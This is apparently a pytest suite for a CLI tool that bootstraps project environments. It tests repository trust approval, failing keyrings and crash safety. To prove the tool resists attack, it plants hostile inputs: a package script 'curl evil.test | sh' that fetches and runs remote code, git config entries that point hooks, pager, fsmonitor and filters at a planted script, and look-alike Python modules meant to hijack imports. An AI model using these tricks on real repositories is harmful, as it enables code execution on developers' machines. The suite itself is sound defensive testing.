"""Trust, keyrings that fail, and deaths: what onboard promises whatever a repository, a machine or a person does."""

import json
import os
import pty
import random
import re
import select
import shutil
import signal
import subprocess
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.e2e.light import ONBOARD, PACKAGE, TEMPLATE, Light, Ran, Services, gone, light
from tests.keyring_parts import MUTE_AT, keyring, mute_bus
from tests.oracle import Oracle

# trust


def _scripts(shop: Light, **scripts: str) -> None:
    shop.package(scripts={"dev": "next dev", "db:push": "drizzle-kit push"} | scripts)


def _swap(shop: Light) -> None:
    """The folder's name leads to another repository from now on."""
    other = shop.root / "other"
    shutil.copytree(shop.project, other)
    (other / "package.json").write_text(json.dumps(PACKAGE | {"scripts": {"db:push": "curl evil.test | sh"}}))
    shop.project.rename(shop.root / "elsewhere")
    shop.project.symlink_to(other)


def _template_elsewhere(shop: Light) -> None:
    template = shop.project / ".env.local.example"
    (shop.project / "t").write_text(TEMPLATE + "EVIL_URL=\n")
    template.unlink()
    template.symlink_to("t")


MUTATIONS: dict[str, Callable[[Light], object]] = {
    "a byte of the template": lambda shop: shop.template(TEMPLATE.replace("The shop.", "The Shop.")),
    "a blank in the template": lambda shop: shop.template(TEMPLATE + "\n"),
    "a variable more": lambda shop: shop.template(TEMPLATE + "GITHUB_TOKEN=\n"),
    "a manifest": lambda shop: (shop.project / "onboard.toml").write_text("# nothing\n"),
    "the script of push": lambda shop: _scripts(shop, **{"db:push": "drizzle-kit push --force"}),
    "a script before push": lambda shop: _scripts(shop, **{"predb:push": "node x.js"}),
    "the script of dev": lambda shop: _scripts(shop, dev="next dev & node x.js"),
    "a script at install": lambda shop: _scripts(shop, preinstall="node x.js"),
    "another remote": lambda shop: (shop.project / ".git" / "config").write_text(
        '[remote "origin"]\n\turl = https://github.com/evil/x.git\n'
    ),
    "a link to another repository": _swap,
    "a link to another template": _template_elsewhere,
}


@pytest.mark.parametrize("what", MUTATIONS)
def test_what_changed_after_the_approval_is_asked_again(trusted: Light, what: str) -> None:
    assert trusted.session().trusted
    MUTATIONS[what](trusted)
    ran = trusted.onboard("setup", "--yes")

    assert ran.code == 4
    assert "not approved yet" in ran.err
    assert "onboard trust" in ran.err
    assert trusted.services.requests() == []
    assert not (trusted.home / "pnpm-ran").exists()
    assert not trusted.file.exists()


def test_a_comment_in_the_manifest_is_asked_again_and_the_change_is_named(shop: Light) -> None:
    (shop.project / "onboard.toml").write_text("# ours\n")
    shop.trust()
    (shop.project / "onboard.toml").write_text("#  ours\n")
    refused = shop.onboard("env", "--write")
    shown = shop.onboard("trust", "--show")

    assert refused.code == 4
    assert "changed: onboard.toml" in shown.out


def test_another_folder_with_the_same_bytes_is_not_approved(trusted: Light) -> None:
    shutil.copytree(trusted.project, trusted.root / "copy", symlinks=True)
    ran = trusted.onboard("setup", "--yes", cwd=trusted.root / "copy")

    assert ran.code == 4
    assert not (trusted.root / "copy" / ".env.local").exists()


def test_an_id_that_the_manifest_claims_is_said_loudly(shop: Light) -> None:
    (shop.project / "onboard.toml").write_text('[project]\nid = "github.com/acme/payroll"\n')
    text = shop.onboard("trust", "--show")
    document = shop.onboard("trust", "--show", "--json").json()

    assert "LOOK" in text.out
    assert "github.com/acme/payroll" in text.out
    assert document["id_is_own"] is False
    assert document["keyring_item"] == "onboard: github.com/acme/payroll"


OFF: dict[str, tuple[tuple[str, ...], dict[str, str | None], int]] = {
    "CI": (("setup", "--yes"), {"CI": "1", "GITHUB_ACTIONS": "true"}, 4),
    "variables of ours": (("setup", "--yes"), {"ONBOARD_TRUST": "1", "ONBOARD_YES": "1", "ONBOARD_ACCEPT": "*"}, 4),
    "an agent": (("setup", "--yes", "--agent"), {"CLAUDECODE": "1"}, 4),
    "a flag": (("setup", "--yes", "--trust"), {}, 2),
    "a wrong hash": (("trust", "--accept", "0" * 64), {}, 4),
    "no hash": (("trust", "--accept", ""), {}, 4),
    "no terminal": (("trust",), {}, 4),
    "a push": (("push", "--yes"), {}, 4),
    "a run": (("run", "--", "sh", "-c", "touch ran"), {}, 4),
    "a fix": (("doctor", "--fix"), {}, 4),
}


@pytest.mark.parametrize("way", OFF)
def test_no_way_around_the_approval(shop: Light, way: str) -> None:
    words, env, code = OFF[way]
    (shop.project / ".onboard").mkdir()
    (shop.project / ".onboard" / "trust.json").write_text('{"trusted": true}')
    (shop.project / ".env").write_text("ONBOARD_TRUST=1\nXDG_STATE_HOME=.\n")
    before = sorted(path.name for path in shop.project.iterdir())
    ran = shop.onboard(*words, env=env)

    assert ran.code == code, ran.err
    assert not shop.session().trusted
    assert sorted(path.name for path in shop.project.iterdir()) == before
    assert shop.services.requests() == []
    assert not (shop.home / "pnpm-ran").exists()


def test_an_approval_that_is_broken_or_anothers_is_none(trusted: Light) -> None:
    state = next(trusted.home.rglob("trust.json"))
    right = state.read_bytes()
    for odd in (
        b"",
        b"{",
        b"[]",
        b'{"approvals": 1}',
        b"\xff" + right,
        right[:-3],
        right.replace(b'"hash"', b'"hush"'),
    ):
        state.write_bytes(odd)

        assert not trusted.session().trusted
    state.write_bytes(right)
    assert trusted.session().trusted


def test_a_revoked_approval_is_gone(trusted: Light) -> None:
    assert trusted.onboard("trust", "--revoke").code == 0
    assert trusted.onboard("env", "--write").code == 4


# what a repository brings along


def _plant(shop: Light, *names: str) -> None:
    for name in names:
        file = shop.project / name
        file.write_text(f'#!/bin/sh\ntouch "{shop.root}/planted-$0"\n: > "{shop.root}/planted"\necho v24.1.0\n')
        file.chmod(0o755)


@pytest.mark.parametrize("before", [True, False], ids=["before approval", "after approval"])
def test_programs_that_lie_in_the_repository_are_never_run(shop: Light, before: bool) -> None:
    names = ("stripe", "pnpm", "git", "node", "npm", "sh")
    _plant(shop, *names)
    (shop.project / "node_modules" / ".bin").mkdir(parents=True)
    for name in names:
        shutil.copy(shop.project / name, shop.project / "node_modules" / ".bin" / name)
    if not before:
        shop.trust()
    shop.tool("pnpm", None)
    path = os.pathsep.join([".", "", "node_modules/.bin", str(shop.project), shop.alone(), ""])
    looked = shop.onboard("doctor", "--json", env={"PATH": path})
    shop.onboard("setup", "--yes", env={"PATH": path})
    found = {one["id"]: one for one in looked.json()["findings"]}

    assert list(shop.root.glob("planted*")) == []
    if not before:
        assert found["tool.pnpm"]["status"] == "fail"
        assert "means the current folder" in found["tool.pnpm"]["detail"]
        assert found["tool.node"]["status"] == "ok"


def test_git_obeys_nothing_that_the_repository_configures(trusted: Light) -> None:
    _plant(trusted, "evil")
    (trusted.project / "h").mkdir()
    shutil.copy(trusted.project / "evil", trusted.project / "h" / "post-index-change")
    config = trusted.project / ".git" / "config"
    config.write_text(
        config.read_text()
        + "[core]\n\tfsmonitor = ./evil\n\thooksPath = ./h\n\tpager = ./evil\n\tsshCommand = ./evil\n"
        '[filter "x"]\n\tclean = ./evil\n\tsmudge = ./evil\n[alias]\n\tcheck-ignore = !./evil\n'
        "[diff]\n\texternal = ./evil\n"
    )
    (trusted.project / ".gitattributes").write_text("* filter=x\n")
    trusted.file.write_text("TEAM_NOTE=x\n")
    ran = trusted.onboard("doctor", "--json")
    found = {one["id"]: one["status"] for one in ran.json()["findings"]}

    assert found["env.ignored"] == "ok"
    assert list(trusted.root.glob("planted*")) == []


def test_modules_that_lie_in_the_repository_are_never_imported(trusted: Light) -> None:
    names = ("copy", "keyring", "tomllib", "json", "sitecustomize", "usercustomize", "textual", "httpx", "evilkr")
    for name in names:
        (trusted.project / f"{name}.py").write_text(f"open({str(trusted.root / 'imported')!r}, 'a').write({name!r})\n")
    (trusted.project / "onboard").mkdir()
    (trusted.project / "onboard" / "__init__.py").write_text(f"open({str(trusted.root / 'imported')!r}, 'a')\n")
    (trusted.project / "onboard.toml").write_text("# so that it is read\n")
    trusted.trust()
    env: dict[str, str | None] = {"PYTHON_KEYRING_BACKEND": "evilkr.Keyring"}
    for words in (("check",), ("doctor",), ("set", "TEAM_NOTE", "--no-verify")):
        trusted.onboard(*words, stdin="a plain note", env=env)

    assert trusted.values()["TEAM_NOTE"] == "a plain note"
    assert not (trusted.root / "imported").exists()


def test_the_environment_cannot_make_the_wizard_write_what_is_typed(trusted: Light) -> None:
    log = trusted.root / "textual.log"
    changes: dict[str, str | None] = {"TEXTUAL_LOG": str(log), "TEXTUAL": "debug,devtools", "TEXTUAL_PRESS": "q"}
    with _on_terminal(trusted, env=trusted.environment(changes)) as (child, seen):
        assert seen(b"\x1b[?1049h", 20), "the wizard is on the screen"
        assert child.poll() is None
    assert not log.exists()


@contextmanager
def _on_terminal(
    shop: Light, *words: str, env: dict[str, str]
) -> Iterator[tuple[subprocess.Popen[bytes], Callable[[bytes, float], bool]]]:
    """Run the program on a terminal; the second thing waits for bytes of it."""
    leader, follower = pty.openpty()
    child = subprocess.Popen(
        [str(ONBOARD), *words], cwd=shop.project, env=env, stdin=follower, stdout=follower, stderr=follower,
        start_new_session=True,
    )  # fmt: skip
    os.close(follower)
    raw = bytearray()

    def seen(what: bytes, seconds: float) -> bool:
        until = time.monotonic() + seconds
        while what not in raw and time.monotonic() < until:
            if select.select([leader], [], [], 0.1)[0]:
                try:
                    raw.extend(os.read(leader, 1 << 16))
                except OSError:
                    break
        return what in raw

    try:
        yield child, seen
    finally:
        child.kill()
        child.wait()
        os.close(leader)
        shop.oracle.saw("terminal", bytes(raw))


# keyrings that fail

LIMIT = 6.0
"""Seconds for a whole command beside a keyring that does not answer: it is given three, and twice would be over six."""


def _set_beside(shop: Light) -> tuple[Ran, float]:
    started = time.monotonic()
    ran = shop.set("TEAM_NOTE", "the note of the team", "--no-verify")
    return ran, time.monotonic() - started


@pytest.mark.long
@pytest.mark.parametrize("stage", MUTE_AT)
def test_a_mute_keyring_costs_four_seconds_and_the_file_is_written(
    tmp_path: Path, stand_ins: Services, oracle: Oracle, stage: str
) -> None:
    (tmp_path / "home").mkdir()
    with mute_bus(tmp_path / "home", stage) as bus, light(tmp_path, stand_ins, oracle, bus) as shop:
        shop.trust()
        ran, seconds = _set_beside(shop)

        assert ran.code == 0, ran.err
        assert "not kept in the keyring" in ran.err
        assert shop.values()["TEAM_NOTE"] == "the note of the team"
        assert seconds < LIMIT


def test_a_locked_keyring_is_called_locked_and_the_file_is_written(
    tmp_path: Path, stand_ins: Services, oracle: Oracle
) -> None:
    with keyring(tmp_path / "home", unlocked=False) as bus, light(tmp_path, stand_ins, oracle, bus.env) as shop:
        shop.trust()
        ran, seconds = _set_beside(shop)
        looked = shop.onboard("doctor", "--json", "--only", "vault")

        assert ran.code == 0, ran.err
        assert "locked" in ran.err
        assert shop.values()["TEAM_NOTE"] == "the note of the team"
        assert seconds < LIMIT
        assert looked.json()["findings"][0]["status"] in ("warn", "unknown")
        assert "locked" in looked.out


def test_no_keyring_is_said_and_what_was_chosen_is_remembered(trusted: Light) -> None:
    ran, _ = _set_beside(trusted)
    before = trusted.onboard("doctor", "--json", "--only", "vault").json()["findings"][0]
    trusted.onboard("setup", "--file-only")
    after = trusted.onboard("doctor", "--json", "--only", "vault").json()["findings"][0]

    assert ran.code == 0
    assert "not kept in the keyring" in ran.err
    assert (before["status"], after["status"]) == ("warn", "ok")


@pytest.mark.parametrize("backend", ["keyring.backends.null.Keyring", "keyrings.alt.file.PlaintextKeyring"])
def test_a_store_in_clear_is_never_taken_because_somebody_names_it(trusted: Light, backend: str) -> None:
    ran = trusted.set("TEAM_NOTE", "the note of the team", "--no-verify", env={"PYTHON_KEYRING_BACKEND": backend})

    assert ran.code == 0
    assert "not kept in the keyring" in ran.err


def test_a_real_keyring_keeps_it_and_a_second_clone_has_it(keyring_shop: Light) -> None:
    shop = keyring_shop
    ran, _ = _set_beside(shop)
    shop.file.unlink()
    written = shop.onboard("env", "--write")

    assert (ran.code, written.code) == (0, 0)
    assert "not kept" not in ran.err
    assert shop.values()["TEAM_NOTE"] == "the note of the team"


# deaths


ROUNDS = 24


@pytest.mark.long
def test_whenever_it_is_killed_the_file_is_the_old_or_the_new_one(trusted: Light) -> None:
    chance = random.Random(7)
    values = [f"round-{number}-" + "x" * 4000 for number in range(ROUNDS)]
    trusted.file.write_text(f"# mine\nTEAM_NOTE={values[0]}\nFOREIGN=kept\n")
    began = time.monotonic()
    trusted.onboard("import", "-", "--no-verify", stdin=f"TEAM_NOTE={values[0]}\n")
    whole = time.monotonic() - began  # as long as it takes on this machine, now
    seen: set[str] = set()
    for new in values[1:]:
        before = trusted.values()["TEAM_NOTE"]
        number = chance.choice([signal.SIGKILL, signal.SIGKILL, signal.SIGINT, signal.SIGTERM])
        child = subprocess.Popen(
            [str(ONBOARD), "import", "-", "--no-verify"],
            cwd=trusted.project,
            env=trusted.env,
            stdin=subprocess.PIPE,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        assert child.stdin is not None
        assert child.stderr is not None
        child.stdin.write(f"TEAM_NOTE={new}\n".encode())
        child.stdin.close()
        time.sleep(chance.uniform(0.1, 1.4) * whole)
        child.send_signal(number)
        said = child.stderr.read()
        child.stderr.close()
        child.wait(10)
        after = trusted.values()

        assert after["TEAM_NOTE"] in (before, new)
        assert trusted.file.read_text().startswith("# mine\n")
        assert after["FOREIGN"] == "kept"
        assert b"Traceback" not in said
        seen.add("new" if after["TEAM_NOTE"] == new else "old")
    assert seen == {"old", "new"}, "the moments were all on one side"
    trusted.onboard("doctor", "--offline")
    assert trusted.temporary() == []


@pytest.mark.long
@pytest.mark.skipif(shutil.which("strace") is None, reason="needs strace: kills between two system calls")
@pytest.mark.parametrize("call", ["rename,renameat,renameat2", "fsync", "fchmod"])
def test_what_a_kill_inside_the_save_leaves_is_swept_at_the_next_start(trusted: Light, call: str) -> None:
    trusted.file.write_text("TEAM_NOTE=old\n")
    for number in (1, 2, 3):
        inject = [
            "strace",
            "-f",
            "-o",
            "/dev/null",
            "-e",
            f"trace={call}",
            "-e",
            f"inject={call}:signal=KILL:when={number}",
        ]
        trusted.onboard("set", "TEAM_NOTE", "--no-verify", stdin="a newer note", wrap=inject)
        if trusted.temporary():
            break
    else:
        pytest.fail("no kill left a temporary file")

    assert trusted.values()["TEAM_NOTE"] in ("old", "a newer note")
    trusted.onboard("doctor", "--offline")
    assert trusted.temporary() == []


@pytest.mark.long
@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL])
def test_no_child_outlives_us(trusted: Light, number: signal.Signals) -> None:
    trusted.tool(
        "pnpm", 'case "$1" in --version) echo 10.34.9;; *) touch "$HOME/up"; sh -c "sleep 1000" & sleep 1000;; esac'
    )
    child = subprocess.Popen(
        [str(ONBOARD), "setup", "--yes"],
        cwd=trusted.project,
        env=trusted.env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    assert child.stdout is not None
    assert gone(lambda: [] if (trusted.home / "up").exists() else ["not yet"], 20) == []
    child.send_signal(number)
    said = child.stdout.read()
    child.stdout.close()
    code = child.wait(10)

    assert gone(trusted.left) == []
    assert b"Traceback" not in said
    assert code == (130 if number is signal.SIGINT else -number) or number in (signal.SIGTERM, signal.SIGHUP)


def test_a_command_of_the_persons_own_keeps_its_exit_code_and_its_output_has_no_secret(trusted: Light) -> None:
    trusted.file.write_text(f"ANTHROPIC_API_KEY={trusted.services.anthropic.api_key}\n")
    ran = trusted.onboard("run", "--", "sh", "-c", 'echo "key: $ANTHROPIC_API_KEY"; exit 7')

    assert ran.code == 7
    assert "key: " in ran.out
    assert trusted.services.anthropic.api_key not in ran.out


def test_the_core_file_limit_is_nought(trusted: Light) -> None:
    (trusted.project / "core").unlink(missing_ok=True)
    child = subprocess.Popen(
        ["sh", "-c", 'ulimit -c unlimited; exec "$0" set TEAM_NOTE', str(ONBOARD)],
        cwd=trusted.project,
        env=trusted.env,
        stdin=subprocess.PIPE,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    limits = Path(f"/proc/{child.pid}/limits")
    assert gone(lambda: [] if re.search("core file size +0 +0 ", limits.read_text()) else ["not yet"], 10) == []
    child.send_signal(signal.SIGABRT)
    assert child.stdin is not None
    child.stdin.close()
    child.wait(10)

    assert list(trusted.project.glob("core*")) == []
